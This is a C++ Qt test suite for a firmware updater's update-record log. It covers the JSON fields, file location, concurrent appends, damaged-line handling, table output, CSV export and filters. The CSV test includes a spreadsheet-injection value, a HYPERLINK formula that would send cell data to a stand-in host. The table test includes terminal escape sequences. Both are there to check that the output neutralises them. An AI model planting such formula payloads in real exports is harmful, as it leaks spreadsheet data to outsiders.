// The update record: what its JSON line holds, where the file goes, that lines appended by many
// threads and a second program at once stay whole, and how the history reads, filters and shows
// them.

#include "record/RecordCsv.h"
#include "record/RecordFile.h"
#include "record/RecordFilter.h"
#include "record/RecordHistory.h"
#include "update/RunRecord.h"

#include "OpenFilesAsNobody.h"
#include "SysfsTree.h"

#include <QCryptographicHash>
#include <QJsonDocument>
#include <QProcess>
#include <QRegularExpression>
#include <QSet>
#include <QSysInfo>
#include <QTemporaryDir>
#include <QTest>

#include <fcntl.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <ctime>
#include <memory>
#include <thread>
#include <vector>

using namespace rq70;

namespace {

// Started with this argument, the test binary appends records as a second program would.
constexpr char AppendingProgramArgument[] = "--append-records";
constexpr int Threads = 8;
constexpr int RecordsPerThread = 200;
constexpr int RecordsOfOtherProgram = 400;

// Central European time, with its summer time, without needing the zone database.
constexpr char CentralEuropeanTime[] = "CET-1CEST,M3.5.0,M10.5.0/3";

const char* const ChangedVariables[] = {"RQ70_UPDATE_RECORD", "XDG_STATE_HOME", "HOME", "USER", "LOGNAME"};

QDateTime Utc(const QString& iso) {
    return QDateTime::fromString(iso, Qt::ISODateWithMs);
}

UpdateRecord ProgramFailure() {
    UpdateRecord record;
    record.started = Utc("2026-12-07T16:40:01.123Z");
    record.ended = Utc("2026-12-07T16:42:57.323Z");
    record.host = "line-3";
    record.user = "tech";
    record.program = "rq70-flash";
    record.version = "1.2.0";
    record.port = "/dev/ttyUSB0";
    record.devicePath = "/dev/ttyUSB0";
    record.deviceNode = "/dev/ttyUSB0";
    record.usbSerial = "A10K3XQ";
    record.updateFile = "/home/tech/fw/RQ70-4.2.KRV";
    record.updateFileSize = 48213;
    record.updateFileSha256 = "87b5f9aa3395bf658fd3eecb5a2c77bef49c7297c7739beb061129d6c390911d";
    record.highestProgramWord = 4095;
    record.verdict = "failure";
    record.failedPhase = "program";
    record.failedWord = 261;
    record.reason = "read-back differs at word 261";
    record.shift = "2026-12-07-late";
    record.slot = 3;
    record.note = "batch 17";
    return record;
}

// The record number `index` of `writer`, with texts long enough (about 20 KB a line) that any
// stdio or QFile buffer would have to split the line into several writes.
UpdateRecord LongRecord(const QString& writer, int index) {
    UpdateRecord record = ProgramFailure();
    record.port = writer;
    record.highestProgramWord = index;
    const QString tag = QStringLiteral("%1/%2 ").arg(writer).arg(index);
    record.identification = tag.repeated(3000 / tag.size());
    record.reason = tag + QString(17000, QChar(u'a' + index % 26));
    return record;
}

QString AppendLongRecords(const QString& path, const QString& writer, int count) {
    for (int index = 0; index < count; ++index) {
        const QString error = AppendUpdateRecord(path, LongRecord(writer, index));
        if (!error.isEmpty())
            return error;
    }
    return {};
}

// The second program: says it has started, so the threads begin at the same moment, then appends.
int RunAsAppendingProgram(const QString& path, int count) {
    std::fputs("started\n", stdout);
    std::fflush(stdout);
    const QString error = AppendLongRecords(path, "other-program", count);
    if (error.isEmpty())
        return 0;
    std::fprintf(stderr, "%s\n", qPrintable(error));
    return 1;
}

QByteArray Line(const QString& port) {
    return QJsonDocument(QJsonObject{{"port", port}, {"verdict", "success"}}).toJson(QJsonDocument::Compact) +
           '\n';
}

bool WriteFile(const QString& path, const QByteArray& content) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(content) == content.size();
}

QStringList Ports(const QList<QJsonObject>& records) {
    QStringList ports;
    for (const QJsonObject& record : records)
        ports << record.value("port").toString();
    return ports;
}

QByteArray ContentOf(const QString& path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// Whether the kernel lists process `pid` as waiting for a lock ("1: -> FLOCK  ADVISORY  WRITE pid ...").
bool WaitsForLock(qint64 pid) {
    QFile locks("/proc/locks");
    if (!locks.open(QIODevice::ReadOnly))
        return false;
    for (const QByteArray& line : locks.readAll().split('\n')) {
        const QList<QByteArray> fields = line.simplified().split(' ');
        if (fields.size() > 5 && fields[1] == "->" && fields[5] == QByteArray::number(pid))
            return true;
    }
    return false;
}

// The record's lines that the filter tests choose from, named by their port. Local time is CET
// (UTC+1) in December. The old line was written before records had an id and a station.
QByteArray MixedRecordFile() {
    const auto record = [](const char* port, const char* station, const char* verdict, const char* end) {
        UpdateRecord made = ProgramFailure();
        made.port = port;
        made.station = station;
        made.verdict = verdict;
        made.started = Utc(end).addSecs(-180);
        made.ended = Utc(end);
        return QJsonDocument(ToJson(made)).toJson(QJsonDocument::Compact) + '\n';
    };
    QByteArray file = record("A", "east", "success", "2026-12-07T22:59:59.999Z"); // Dec 7, 23:59:59.999
    file += record("B", "west", "failure", "2026-12-08T08:00:00.000Z");
    file += R"({"port":"OLD","verdict":"failure","end":"2026-12-08T12:00:00.000Z","shift":null})"
            "\n";
    QJsonObject unended =
        QJsonDocument::fromJson(record("C", "west", "aborted", "2026-12-08T10:00:00.000Z")).object();
    unended.insert("end", QJsonValue::Null);
    unended.insert("update_file_sha256", QString(64, u'c'));
    unended.insert("identification", "RQ-70 Boot 2.0");
    file += QJsonDocument(unended).toJson(QJsonDocument::Compact) + '\n';
    file += record("D", "east", "failure", "2026-12-08T22:59:59.999Z"); // Dec 8, 23:59:59.999
    file += record("E", "east", "success", "2026-12-08T23:00:00.000Z"); // Dec 9, 00:00
    return file;
}

int ModeOf(const QString& path) {
    struct stat status {};
    return ::stat(QFile::encodeName(path).constData(), &status) == 0 ? int(status.st_mode & 07777) : -1;
}

} // namespace

class TestUpdateRecord : public QObject {
    Q_OBJECT

    QHash<QByteArray, QByteArray> savedVariables_;
    // A new empty folder for each test.
    std::unique_ptr<QTemporaryDir> dir_;

private slots:
    void initTestCase() {
        qputenv("TZ", CentralEuropeanTime);
        ::tzset();
    }
    void init() {
        dir_ = std::make_unique<QTemporaryDir>();
        QVERIFY(dir_->isValid());
        savedVariables_.clear();
        for (const char* name : ChangedVariables) {
            if (qEnvironmentVariableIsSet(name))
                savedVariables_.insert(name, qgetenv(name));
        }
    }
    void cleanup() {
        for (const char* name : ChangedVariables) {
            if (savedVariables_.contains(name))
                qputenv(name, savedVariables_.value(name));
            else
                qunsetenv(name);
        }
    }

    void jsonOfAFailedUpdate() {
        UpdateRecord record = ProgramFailure();
        record.id = "0f1e2d3c4b5a69788796a5b4c3d2e1f0";
        record.station = "line-3/bench-2";
        const QJsonObject expected{
            {"id", "0f1e2d3c4b5a69788796a5b4c3d2e1f0"},
            {"station", "line-3/bench-2"},
            {"start", "2026-12-07T16:40:01.123Z"},
            {"end", "2026-12-07T16:42:57.323Z"},
            {"duration_s", 176.2},
            {"host", "line-3"},
            {"user", "tech"},
            {"program", "rq70-flash"},
            {"version", "1.2.0"},
            {"port", "/dev/ttyUSB0"},
            {"device_path", "/dev/ttyUSB0"},
            {"device_node", "/dev/ttyUSB0"},
            {"usb_serial", "A10K3XQ"},
            {"update_file", "/home/tech/fw/RQ70-4.2.KRV"},
            {"update_file_size", 48213},
            {"update_file_sha256", "87b5f9aa3395bf658fd3eecb5a2c77bef49c7297c7739beb061129d6c390911d"},
            {"highest_program_word", 4095},
            {"identification", QJsonValue::Null},
            {"verdict", "failure"},
            {"failed_phase", "program"},
            {"failed_word", 261},
            {"reason", "read-back differs at word 261"},
            {"shift", "2026-12-07-late"},
            {"slot", 3},
            {"note", "batch 17"},
        };
        QCOMPARE(ToJson(record), expected);
    }

    // What is not known is there as null, never left out; host, user and station are found out,
    // and every record, also one made by a run, has an id that no other has.
    void jsonOfAnEmptyRecord() {
        qputenv("USER", "tech");
        const QJsonObject json = ToJson(UpdateRecord{});
        QStringList keys = json.keys();
        keys.sort();
        QStringList expectedKeys{"id",
                                 "station",
                                 "start",
                                 "end",
                                 "duration_s",
                                 "host",
                                 "user",
                                 "program",
                                 "version",
                                 "port",
                                 "device_path",
                                 "device_node",
                                 "usb_serial",
                                 "update_file",
                                 "update_file_size",
                                 "update_file_sha256",
                                 "highest_program_word",
                                 "identification",
                                 "verdict",
                                 "failed_phase",
                                 "failed_word",
                                 "reason",
                                 "shift",
                                 "slot",
                                 "note"};
        expectedKeys.sort();
        QCOMPARE(keys, expectedKeys);
        for (const char* key : {"start", "end", "duration_s", "device_node", "usb_serial", "update_file_size",
                                "update_file_sha256", "identification", "failed_phase", "failed_word",
                                "reason", "shift", "slot", "note"})
            QVERIFY2(json.value(key).isNull(), key);
        QCOMPARE(json.value("host").toString(), QSysInfo::machineHostName());
        QCOMPARE(json.value("station").toString(), QSysInfo::machineHostName());
        QCOMPARE(json.value("user").toString(), QString("tech"));

        UpdateRecord onAnotherHost;
        onAnotherHost.host = "line-4";
        QCOMPARE(ToJson(onAnotherHost).value("station").toString(), QString("line-4"));

        const QRegularExpression hex128("^[0-9a-f]{32}$");
        QSet<QString> ids{json.value("id").toString()};
        const RunContext context;
        for (int n = 0; n < 1000; ++n)
            ids << (n % 2 ? NewRecordId()
                          : ToJson(RecordOfRun(context, UpdateResult{})).value("id").toString());
        QCOMPARE(ids.size(), 1001);
        for (const QString& id : ids)
            QVERIFY2(hex128.match(id).hasMatch(), qPrintable(id));
    }

    // An adapter pulled half way through the update: the record still names the cradle as it was
    // given, the node the unit was on and the adapter's serial number, as the port opened.
    void aRunIsRecordedWithItsPortAsItOpened() {
        SysfsTree sys;
        QTemporaryDir noProcesses;
        sys.AddUsbDevice("1-4", "0403", "6001", "A10K3XQ");
        sys.AddTty("ttyUSB1", "1-4", 0);
        const QString byId = "/dev/serial/by-id/usb-FTDI_FT232R_USB_UART_A10K3XQ-if00-port0";
        ChosenPort port(byId, byId, 0, "/dev/ttyUSB1");
        port.ReadSystemAt(sys.root.path(), noProcesses.path());
        port.LineUp();
        sys.Remove("ttyUSB1");
        port.LineWentAway();
        RunContext context;
        SetPortOfRun(context, port);

        UpdateResult pulled;
        pulled.failedPhase = UpdatePhase::Program;
        pulled.failedWord = 300;
        const QJsonObject json = ToJson(RecordOfRun(context, pulled));
        QCOMPARE(json.value("verdict").toString(), QString("failure"));
        QCOMPARE(json.value("port").toString(), byId);
        QCOMPARE(json.value("device_path").toString(), byId);
        QCOMPARE(json.value("device_node").toString(), QString("/dev/ttyUSB1"));
        QCOMPARE(json.value("usb_serial").toString(), QString("A10K3XQ"));
    }

    void jsonTimesAreUtc_data() {
        QTest::addColumn<QDateTime>("started");
        QTest::addColumn<QDateTime>("ended");
        QTest::addColumn<QString>("start");
        QTest::addColumn<QString>("end");
        QTest::addColumn<double>("duration");

        const QDate day(2026, 12, 7);
        QTest::newRow("local time (CET)")
            << QDateTime(day, QTime(17, 40, 1, 123), Qt::LocalTime)
            << QDateTime(day, QTime(17, 42, 57, 323), Qt::LocalTime) << "2026-12-07T16:40:01.123Z"
            << "2026-12-07T16:42:57.323Z" << 176.2;
        QTest::newRow("local summer time (CEST)")
            << QDateTime(QDate(2026, 6, 1), QTime(10, 0), Qt::LocalTime)
            << QDateTime(QDate(2026, 6, 1), QTime(10, 0, 0, 7), Qt::LocalTime) << "2026-06-01T08:00:00.000Z"
            << "2026-06-01T08:00:00.007Z" << 0.007;
        QTest::newRow("offset +05:30")
            << QDateTime(day, QTime(22, 10, 1, 123), Qt::OffsetFromUTC, 19800)
            << QDateTime(day, QTime(22, 12, 57, 323), Qt::OffsetFromUTC, 19800) << "2026-12-07T16:40:01.123Z"
            << "2026-12-07T16:42:57.323Z" << 176.2;
        QTest::newRow("across midnight UTC")
            << QDateTime(day, QTime(23, 59, 59, 999), Qt::UTC)
            << QDateTime(day.addDays(1), QTime(0, 0, 1), Qt::UTC) << "2026-12-07T23:59:59.999Z"
            << "2026-12-08T00:00:01.000Z" << 1.001;
    }
    void jsonTimesAreUtc() {
        QFETCH(QDateTime, started);
        QFETCH(QDateTime, ended);
        UpdateRecord record;
        record.started = started;
        record.ended = ended;
        const QJsonObject json = ToJson(record);
        QTEST(json.value("start").toString(), "start");
        QTEST(json.value("end").toString(), "end");
        QVERIFY(json.value("duration_s").isDouble());
        QTEST(json.value("duration_s").toDouble(), "duration");
    }

    void jsonUser_data() {
        QTest::addColumn<QByteArray>("user");
        QTest::addColumn<QByteArray>("logname");
        QTest::addColumn<QString>("given");
        QTest::addColumn<QString>("expected");
        QTest::newRow("USER") << QByteArray("alice") << QByteArray("bob") << ""
                              << "alice";
        QTest::newRow("LOGNAME without USER") << QByteArray() << QByteArray("bob") << ""
                                              << "bob";
        QTest::newRow("given by the caller") << QByteArray("alice") << QByteArray() << "carol"
                                             << "carol";

        // Without either variable the name comes from the password database, as `id` reads it.
        QProcess id;
        id.start("id", {"-un"});
        QVERIFY(id.waitForFinished());
        const QString login = QString::fromLocal8Bit(id.readAllStandardOutput()).trimmed();
        QVERIFY(!login.isEmpty());
        QTest::newRow("neither variable") << QByteArray() << QByteArray() << "" << login;
    }
    void jsonUser() {
        QFETCH(QByteArray, user);
        QFETCH(QByteArray, logname);
        QFETCH(QString, given);
        user.isNull() ? qunsetenv("USER") : qputenv("USER", user);
        logname.isNull() ? qunsetenv("LOGNAME") : qputenv("LOGNAME", logname);
        UpdateRecord record;
        record.user = given;
        QTEST(ToJson(record).value("user").toString(), "expected");
    }

    void recordPath_data() {
        // A null value leaves the variable unset.
        QTest::addColumn<QByteArray>("chosen");
        QTest::addColumn<QByteArray>("stateHome");
        QTest::addColumn<QString>("expected");
        QTest::newRow("chosen file") << QByteArray("/srv/line/records.jsonl") << QByteArray("/var/state")
                                     << "/srv/line/records.jsonl";
        QTest::newRow("chosen file as given")
            << QByteArray("records.jsonl") << QByteArray() << "records.jsonl";
        QTest::newRow("empty choice")
            << QByteArray("") << QByteArray("/var/state") << "/var/state/rq70-updater/updates.jsonl";
        QTest::newRow("state home") << QByteArray() << QByteArray("/var/state")
                                    << "/var/state/rq70-updater/updates.jsonl";
        QTest::newRow("relative state home")
            << QByteArray() << QByteArray("state") << "/home/tech/.local/state/rq70-updater/updates.jsonl";
        QTest::newRow("empty state home")
            << QByteArray() << QByteArray("") << "/home/tech/.local/state/rq70-updater/updates.jsonl";
        QTest::newRow("no state home")
            << QByteArray() << QByteArray() << "/home/tech/.local/state/rq70-updater/updates.jsonl";
    }
    void recordPath() {
        QFETCH(QByteArray, chosen);
        QFETCH(QByteArray, stateHome);
        qputenv("HOME", "/home/tech");
        chosen.isNull() ? qunsetenv("RQ70_UPDATE_RECORD") : qputenv("RQ70_UPDATE_RECORD", chosen);
        stateHome.isNull() ? qunsetenv("XDG_STATE_HOME") : qputenv("XDG_STATE_HOME", stateHome);
        QTEST(UpdateRecordPath(), "expected");
    }

    void appendedRecordsReadBack() {
        const QString path = dir_->filePath("state/rq70-updater/updates.jsonl");
        const UpdateRecord failure = ProgramFailure();
        UpdateRecord success = ProgramFailure();
        success.verdict = "success";
        success.failedPhase.clear();
        success.failedWord = -1;
        success.reason.clear();
        success.identification = "RQ-70 4.2 \"ü\" \\";

        QCOMPARE(AppendUpdateRecord(path, failure), QString());
        QCOMPARE(AppendUpdateRecord(path, success), QString());

        // The folders made for the record are the owner's alone.
        QCOMPARE(ModeOf(dir_->filePath("state")), 0700);
        QCOMPARE(ModeOf(dir_->filePath("state/rq70-updater")), 0700);

        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray content = file.readAll();
        QCOMPARE(content.count('\n'), qsizetype(2));
        QVERIFY(content.endsWith('\n'));

        const RecordHistory history = ReadUpdateRecords(path, 0);
        QCOMPARE(history.error, QString());
        QCOMPARE(history.unreadableLines, 0);
        QCOMPARE(history.records, (QList<QJsonObject>{ToJson(failure), ToJson(success)}));
    }

    void aRecordThatMayOnlyBeWrittenToIsAppendedTo() {
        // A shared log that users may add to but not read: its end cannot be looked at, so the
        // line starts on a line of its own.
        const QString path = dir_->filePath("updates.jsonl");
        QCOMPARE(AppendUpdateRecord(path, ProgramFailure()), QString());
        QVERIFY(QFile::setPermissions(path, QFile::WriteOwner | QFile::WriteGroup | QFile::WriteOther));
        QVERIFY(QFile::setPermissions(dir_->path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
                                                        QFile::ExeGroup | QFile::ExeOther));
        {
            OpenFilesAsNobody nobody;
            QVERIFY(!QFile(path).open(QIODevice::ReadOnly));
            QCOMPARE(AppendUpdateRecord(path, ProgramFailure()), QString());
        }
        QVERIFY(QFile::setPermissions(path, QFile::ReadOwner | QFile::WriteOwner));
        const RecordHistory history = ReadUpdateRecords(path, 0);
        QCOMPARE(history.unreadableLines, 0);
        QCOMPARE(history.records.size(), 2);
    }

    // Eight threads and a second program append ~20 KB lines to one file at the same time.
    void linesStayWholeUnderParallelWriters() {
        const QString path = dir_->filePath("updates.jsonl");

        QProcess otherProgram;
        otherProgram.start(QCoreApplication::applicationFilePath(),
                           {AppendingProgramArgument, path, QString::number(RecordsOfOtherProgram)});
        QVERIFY(otherProgram.waitForReadyRead(10000));

        std::vector<QString> threadErrors(Threads);
        std::vector<std::thread> threads;
        for (int t = 0; t < Threads; ++t) {
            threads.emplace_back([&threadErrors, &path, t] {
                threadErrors[t] =
                    AppendLongRecords(path, QStringLiteral("thread-%1").arg(t), RecordsPerThread);
            });
        }
        for (std::thread& thread : threads)
            thread.join();
        QVERIFY(otherProgram.waitForFinished(60000));
        QCOMPARE(otherProgram.readAllStandardError(), QByteArray());
        QCOMPARE(otherProgram.exitCode(), 0);
        for (const QString& error : threadErrors)
            QCOMPARE(error, QString());

        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QList<QByteArray> lines = file.readAll().split('\n');
        QCOMPARE(lines.takeLast(), QByteArray()); // the last line is complete too
        QCOMPARE(lines.size(), qsizetype(Threads * RecordsPerThread + RecordsOfOtherProgram));

        QSet<QString> seen;
        int firstOfOther = -1;
        int lastOfOther = -1;
        for (int n = 0; n < lines.size(); ++n) {
            const QJsonObject json = QJsonDocument::fromJson(lines[n]).object();
            QVERIFY2(!json.isEmpty(), qPrintable(QStringLiteral("line %1 is torn").arg(n + 1)));
            const QString writer = json.value("port").toString();
            const int index = json.value("highest_program_word").toInt();
            QCOMPARE(json.value("reason").toString(), LongRecord(writer, index).reason);
            seen.insert(QStringLiteral("%1/%2").arg(writer).arg(index));
            if (writer == "other-program") {
                firstOfOther = firstOfOther < 0 ? n : firstOfOther;
                lastOfOther = n;
            }
        }
        QCOMPARE(seen.size(), lines.size());
        // Had the two programs taken turns, the test would have shown nothing about sharing.
        QVERIFY2(lastOfOther - firstOfOther + 1 > RecordsOfOtherProgram,
                 "the second program did not write while the threads did");
    }

    // A crash left half a line at the end. A second program's append waits while another one holds
    // the record's lock, then starts its line on a line of its own: the damage stays one unreadable
    // line and takes no record with it.
    void anAppendWaitsForTheLockAndNeverJoinsADamagedTail() {
        const QString path = dir_->filePath("updates.jsonl");
        const QByteArray damaged = Line("A") + Line("B").left(10);
        QVERIFY(WriteFile(path, damaged));
        const int held = ::open(QFile::encodeName(path).constData(), O_RDONLY | O_CLOEXEC);
        QVERIFY(held >= 0);
        QCOMPARE(::flock(held, LOCK_EX), 0);

        QProcess otherProgram;
        otherProgram.start(QCoreApplication::applicationFilePath(), {AppendingProgramArgument, path, "1"});
        QVERIFY(otherProgram.waitForReadyRead(10000));
        QTRY_VERIFY(WaitsForLock(otherProgram.processId()));
        QCOMPARE(ContentOf(path), damaged);
        ::close(held);

        QVERIFY(otherProgram.waitForFinished(10000));
        QCOMPARE(otherProgram.readAllStandardError(), QByteArray());
        QCOMPARE(otherProgram.exitCode(), 0);
        const RecordHistory history = ReadUpdateRecords(path, 0);
        QCOMPARE(history.error, QString());
        QCOMPARE(history.unreadableLines, 1);
        QCOMPARE(Ports(history.records), (QStringList{"A", "other-program"}));
        QVERIFY(ContentOf(path).startsWith(damaged + '\n'));
    }

    void unwritablePathGivesAnError_data() {
        // Relative paths are under a temporary folder that holds the file "plain" and the folder
        // "folder". The tests run as root, so only what root cannot do either will fail.
        QTest::addColumn<QString>("path");
        QTest::newRow("a file where the folder should be") << "plain/updates.jsonl";
        QTest::newRow("a file further up") << "plain/rq70-updater/updates.jsonl";
        QTest::newRow("a folder where the file should be") << "folder";
        QTest::newRow("a folder that cannot be made") << "/proc/rq70-updater/updates.jsonl";
    }
    void unwritablePathGivesAnError() {
        QFETCH(QString, path);
        QVERIFY(WriteFile(dir_->filePath("plain"), "not a folder\n"));
        QVERIFY(QDir(dir_->path()).mkdir("folder"));

        const QString error = AppendUpdateRecord(QDir(dir_->path()).filePath(path), ProgramFailure());
        QVERIFY(!error.isEmpty());
        QVERIFY2(!error.contains('\n'), qPrintable(error));
        QFile plain(dir_->filePath("plain"));
        QVERIFY(plain.open(QIODevice::ReadOnly));
        QCOMPARE(plain.readAll(), QByteArray("not a folder\n"));
    }

    void readRecords_data() {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<int>("last");
        QTest::addColumn<QStringList>("ports");
        QTest::addColumn<int>("unreadable");

        const QByteArray a = Line("A"), b = Line("B"), c = Line("C"), d = Line("D");
        QTest::newRow("whole records") << a + b + c << 0 << QStringList{"A", "B", "C"} << 0;
        QTest::newRow("garbage between records")
            << a + "not json\n" + b + "{\"port\":\n" + c << 0 << QStringList{"A", "B", "C"} << 2;
        QTest::newRow("JSON that is no object") << a + "[1,2]\n\"text\"\n42\nnull\n"
                                                << 0 << QStringList{"A"} << 4;
        QTest::newRow("zeros left by a crash")
            << a + QByteArray(300, '\0') + "\n" + b << 0 << QStringList{"A", "B"} << 1;
        QTest::newRow("empty and blank lines") << "\n" + a + "\n   \n" + b + "\n"
                                               << 0 << QStringList{"A", "B"} << 0;
        QTest::newRow("edited on Windows") << a.chopped(1) + "\r\n" + b.chopped(1) + "\r\n"
                                           << 0 << QStringList{"A", "B"} << 0;
        QTest::newRow("last line without newline") << a + b.chopped(1) << 0 << QStringList{"A", "B"} << 0;
        QTest::newRow("torn last line") << a + b.left(10) << 0 << QStringList{"A"} << 1;
        QTest::newRow("last 2") << a + b + c + "garbage\n" + d << 2 << QStringList{"C", "D"} << 1;
        QTest::newRow("last 1 of garbage after it") << a + b + "garbage\n" << 1 << QStringList{"B"} << 1;
        QTest::newRow("last 5 of 2") << a + b << 5 << QStringList{"A", "B"} << 0;
        QTest::newRow("empty file") << QByteArray() << 0 << QStringList{} << 0;
    }
    void readRecords() {
        QFETCH(QByteArray, content);
        QFETCH(int, last);
        const QString path = dir_->filePath("updates.jsonl");
        QVERIFY(WriteFile(path, content));

        const RecordHistory history = ReadUpdateRecords(path, last);
        QCOMPARE(history.error, QString());
        QTEST(Ports(history.records), "ports");
        QTEST(history.unreadableLines, "unreadable");
    }

    void readRecordsOfNoFile() {
        const RecordHistory missing = ReadUpdateRecords(dir_->filePath("updates.jsonl"), 0);
        QVERIFY(missing.records.isEmpty());
        QCOMPARE(missing.unreadableLines, 0);
        QCOMPARE(missing.error, QString());

        const RecordHistory folder = ReadUpdateRecords(dir_->path(), 0);
        QVERIFY(folder.records.isEmpty());
        QVERIFY(!folder.error.isEmpty());
    }

    // A line longer than any record is skipped whole, and one just within the limit still counts.
    void readRecordsAroundTheLineLimit() {
        const QString path = dir_->filePath("updates.jsonl");
        QByteArray atLimit = Line("C");
        atLimit.insert(1, "\"padding\":\"\",");
        atLimit.insert(12, QByteArray(MaxRecordLineBytes - atLimit.size() + 1, 'p'));
        QCOMPARE(qint64(atLimit.size()), MaxRecordLineBytes + 1);
        QVERIFY(QJsonDocument::fromJson(atLimit).isObject());
        QByteArray overLimit = atLimit;
        overLimit.insert(12, 'p');

        QVERIFY(WriteFile(path, Line("A") + overLimit + Line("B") + atLimit + overLimit.chopped(1)));
        const RecordHistory history = ReadUpdateRecords(path, 0);
        QCOMPARE(history.error, QString());
        QCOMPARE(Ports(history.records), (QStringList{"A", "B", "C"}));
        QCOMPARE(history.unreadableLines, 2);
    }

    // Times in local time (CET here), missing values as "-", what failed in words, and nothing
    // from the device that could steer the terminal.
    void recordTable() {
        const QList<QJsonObject> records{
            {{"end", "2026-12-07T16:40:01.123Z"},
             {"port", "/dev/ttyUSB0"},
             {"verdict", "failure"},
             {"failed_phase", "program"},
             {"failed_word", 261},
             {"reason", "read-back differs"},
             {"identification", QJsonValue::Null},
             {"update_file", "/home/tech/fw/RQ70-4.2.KRV"},
             {"duration_s", 176.2}},
            {{"end", "2026-12-07T17:05:09.900Z"},
             {"port", "COM3"},
             {"verdict", "success"},
             {"failed_phase", QJsonValue::Null},
             {"failed_word", QJsonValue::Null},
             {"reason", QJsonValue::Null},
             {"identification", QString::fromUtf8("RQ-70\u202e 4.2\x1b[2J\u009b\r\n")},
             {"update_file", "C:\\fw\\RQ70-4.2.KRV"},
             {"duration_s", 31.04}},
            {{"end", "2026-12-07T17:10:00.000Z"},
             {"port", "COM4"},
             {"verdict", "aborted"},
             {"reason", "aborted by the user"},
             {"update_file", "/home/tech/RQ70-4.2.KRV"},
             {"duration_s", 2.5}},
            {{"end", "2026-06-01T08:00:00.000Z"},
             {"port", "COM5"},
             {"verdict", "failure"},
             {"failed_phase", "eeprom"},
             {"failed_word", QJsonValue::Null},
             {"update_file", QJsonValue::Null},
             {"duration_s", 12}},
            {},
        };
        const QString expected = QStringLiteral("End                  Port          Verdict  What failed     "
                                                "     Identification     Update file   Duration\n"
                                                "2026-12-07 17:40:01  /dev/ttyUSB0  failure  program at word "
                                                "261  -                  RQ70-4.2.KRV   176.2 s\n"
                                                "2026-12-07 18:05:09  COM3          success  -               "
                                                "     RQ-70? 4.2?[2J???  RQ70-4.2.KRV    31.0 s\n"
                                                "2026-12-07 18:10:00  COM4          aborted  aborted by the "
                                                "user  -                  RQ70-4.2.KRV     2.5 s\n"
                                                "2026-06-01 10:00:00  COM5          failure  eeprom          "
                                                "     -                  -               12.0 s\n"
                                                "-                    -             -        -               "
                                                "     -                  -                    -\n");
        QCOMPARE(FormatRecordTable(records), expected);
    }

    // Quoting and the formula guard on a real record's line, one text at a time; the other cells as
    // JSON has them (numbers as written, null empty), and a line without most keys (an old one)
    // as empty cells.
    void csvOfRecords_data() {
        QTest::addColumn<QString>("key");
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("cell");
        QTest::newRow("plain text") << "identification"
                                    << "RQ-70 Boot 1.0"
                                    << "RQ-70 Boot 1.0";
        QTest::newRow("a formula") << "identification"
                                   << R"x(=HYPERLINK("http://x.example/?"&A1,"RQ-70"))x"
                                   << R"x("'=HYPERLINK(""http://x.example/?""&A1,""RQ-70"")")x";
        QTest::newRow("quote, comma and newline") << "note"
                                                  << "batch \"17\", tray 3\nsecond line"
                                                  << "\"batch \"\"17\"\", tray 3\nsecond line\"";
        QTest::newRow("a number as text") << "note"
                                          << "-1"
                                          << "'-1";
        QTest::newRow("@") << "usb_serial"
                           << "@x"
                           << "'@x";
        QTest::newRow("plus") << "note"
                              << "+49 1234"
                              << "'+49 1234";
        QTest::newRow("TAB first") << "reason"
                                   << "\tcmd"
                                   << "'\tcmd";
        QTest::newRow("CR first") << "reason"
                                  << "\r=1"
                                  << "\"'\r=1\"";
        QTest::newRow("CR LF inside") << "reason"
                                      << "a\r\nb"
                                      << "\"a\r\nb\"";
        QTest::newRow("a station with a comma") << "station"
                                                << "line 3, bench 2"
                                                << "\"line 3, bench 2\"";
    }
    void csvOfRecords() {
        QFETCH(QString, key);
        QFETCH(QString, text);
        QFETCH(QString, cell);
        UpdateRecord record = ProgramFailure();
        record.id = "0f1e2d3c4b5a69788796a5b4c3d2e1f0";
        QJsonObject line = ToJson(record);
        line.insert(key, text);
        const QJsonObject old{{"port", "COM1"}, {"verdict", "success"}, {"duration_s", 31}};

        QStringList cells{"0f1e2d3c4b5a69788796a5b4c3d2e1f0",
                          "line-3",
                          "2026-12-07-late",
                          "3",
                          "2026-12-07T16:40:01.123Z",
                          "2026-12-07T16:42:57.323Z",
                          "176.2",
                          "/dev/ttyUSB0",
                          "/dev/ttyUSB0",
                          "A10K3XQ",
                          "",
                          "failure",
                          "program",
                          "261",
                          "read-back differs at word 261",
                          "/home/tech/fw/RQ70-4.2.KRV",
                          "48213",
                          "87b5f9aa3395bf658fd3eecb5a2c77bef49c7297c7739beb061129d6c390911d",
                          "batch 17",
                          "line-3",
                          "tech",
                          "rq70-flash",
                          "1.2.0"};
        const QString header = "id,station,shift,slot,start,end,duration_s,port,device_path,usb_serial,"
                               "identification,verdict,failed_phase,failed_word,reason,update_file,"
                               "update_file_size,update_file_sha256,note,host,user,program,version";
        const QStringList columns = header.split(',');
        QVERIFY(columns.contains(key));
        cells[columns.indexOf(key)] = cell;
        const QString oldRow = ",,,,,,31,COM1,,,,success,,,,,,,,,,,";
        QCOMPARE(RecordsCsv({line, old}), header + "\r\n" + cells.join(',') + "\r\n" + oldRow + "\r\n");
        QCOMPARE(RecordsCsv({}), header + "\r\n");
    }

    // One record file of two stations, every verdict, times around a day's edges, a line without an
    // end and one from before records had an id and a station: each filter keeps the right lines,
    // and --last counts the lines it kept. A filter is "key=value;..."; since and until are read as
    // the command line gives them.
    void filtersNarrowTheHistory_data() {
        QTest::addColumn<QString>("filter");
        QTest::addColumn<int>("last");
        QTest::addColumn<QStringList>("ports");
        const QString sha256 = ProgramFailure().updateFileSha256;
        QTest::newRow("none") << "" << 0 << QStringList{"A", "B", "OLD", "C", "D", "E"};
        QTest::newRow("station") << "station=east" << 0 << QStringList{"A", "D", "E"};
        QTest::newRow("station, not the old line") << "station=west" << 0 << QStringList{"B", "C"};
        QTest::newRow("verdict") << "verdict=failure" << 0 << QStringList{"B", "OLD", "D"};
        QTest::newRow("station and verdict, last 1")
            << "station=east;verdict=failure" << 1 << QStringList{"D"};
        QTest::newRow("last 2 of a station") << "station=east" << 2 << QStringList{"D", "E"};
        QTest::newRow("shift") << "shift=2026-12-07-late" << 0 << QStringList{"A", "B", "C", "D", "E"};
